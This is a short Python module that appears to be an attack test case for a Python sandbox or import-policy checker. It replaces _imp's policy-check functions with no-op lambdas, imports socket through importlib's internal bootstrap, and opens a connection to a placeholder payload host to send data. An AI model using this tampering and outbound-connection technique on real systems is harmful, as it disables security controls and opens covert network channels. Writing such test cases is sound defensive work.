"""The functions that importlib asks are exchanged."""
CATEGORY = "tampering"
REACH = "net"
POLICIES = "allow"

import importlib._bootstrap as bootstrap
import _imp

from . import payload


def attack():
    import good
    for name in "import_check", "get_code", "has_policy":
        if hasattr(_imp, name):
            setattr(_imp, name, lambda *args: None)
    socket = bootstrap._gcd_import("socket")
    client = socket.create_connection((payload.HOST, payload.PORT))
    client.sendall(b"evil")
